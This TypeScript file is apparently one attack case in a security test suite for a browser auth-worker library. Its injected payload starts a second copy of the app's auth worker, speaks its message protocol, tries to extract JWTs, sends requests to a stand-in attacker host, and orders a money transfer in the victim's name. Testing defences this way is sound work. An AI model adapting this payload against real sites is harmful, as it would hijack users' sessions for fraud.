// Threat: a script injected into the page starts the application's own auth worker a second time and talks to it as the page does. The
// attacker has one hole in the page's HTML and has read the library. Expected: the copy renews the session like the original, and serves
// whoever started it; what it does not do is hand over a token.
import { stopped, succeeded, type Attack } from '../attack.ts'
import { fruitless, judgeToken, readBook, scriptReport } from './loot.ts'
// Types only, and no door: with the library's words the attack's change too, or do not compile.
import type { ToPage, ToWorker, Verbs } from '../../packages/browser/src/worker-words.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = async (kit) => {
  const worker = new Worker(kit.params['worker'] ?? '', { type: 'module' })
  const heard: string[] = []
  const answers = new Map<unknown, (data: unknown) => void>()
  worker.addEventListener('message', ({ data }: MessageEvent<ToPage>) => {
    heard.push(JSON.stringify(data))
    if (data[0] === 'answer') answers.get(data[1])?.(data)
  })
  // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a worker has one page
  const say = (words: ToWorker) => worker.postMessage(words)
  let count = 0
  const ask = <Verb extends keyof Verbs>(verb: Verb, what: Verbs[Verb]): Promise<unknown> =>
    new Promise((resolve) => {
      answers.set(++count, resolve)
      setTimeout(resolve, 3000, undefined)
      say([count, verb, what])
    })
  const request = (url: string, body: unknown): Verbs['fetch'] => ({
    url,
    method: 'POST',
    mode: 'cors',
    credentials: 'include',
    cache: 'default',
    redirect: 'follow',
    integrity: '',
    keepalive: false,
    headers: [['content-type', 'application/json']],
    body: new TextEncoder().encode(JSON.stringify(body)).buffer,
  })
  const news: Verbs['page'] = [undefined, undefined, false, false, true, undefined]
  say([0, 'page', news])
  await ask('ready', undefined)
  // Everything that might be answered with a token, or take one to the attacker.
  await ask('refresh', undefined)
  await ask('fetch', request(`${location.origin}/api/auth/refresh`, {}))
  await ask('fetch', request(`${kit.evil}/nothing`, {}))
  await ask('login', { body: {}, path: `${kit.evil}/nothing` })
  await ask('fetch', request(`${location.origin}/api/transfer`, { to: kit.params['to'] }))
  kit.take('token', /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(heard.join(' '))?.[0])
}

export const workerCopy: Attack = {
  name: 'worker-copy',
  group: 'script, late',
  title: 'Starts the auth worker a second time and gives it orders',
  what: 'The script starts the worker’s own file once more and speaks its language: it asks for tokens, for requests to the attacker’s site, and for a transfer.',
  why: 'A worker cannot tell which script of the page started it. The copy uses the session for anybody, while the page is open; it gives no token away.',
  stops:
    'Nothing stops the use of it but keeping the script out (strict CSP). That no token comes out is what the worker is for: the damage ends with the page.',
  script: { when: 'late', payload: script },
  control: 'hallpass-worker',
  succeedsOn: ['hallpass-worker'],
  inapplicable: ({ worker }) => (worker === undefined ? 'there is no auth worker' : undefined),
  async run(scene) {
    const page = await scene.signIn()
    await scene.injectLate(script, { worker: scene.target.worker ?? '', to: scene.attacker.email })
    await readBook(page)
    const report = await scriptReport(scene, 25_000)
    if (report.kinds.includes('token')) return judgeToken(scene, page, report, '')
    return scene.ledger.find({ deed: 'transfer', by: scene.victim.email, detail: scene.attacker.email }).length > 0
      ? succeeded('the copy gave no token away; it sent money in the victim’s name, as the server counted')
      : stopped(fruitless(scene, report, 'was given no token, and the server counted no transfer'))
  },
}
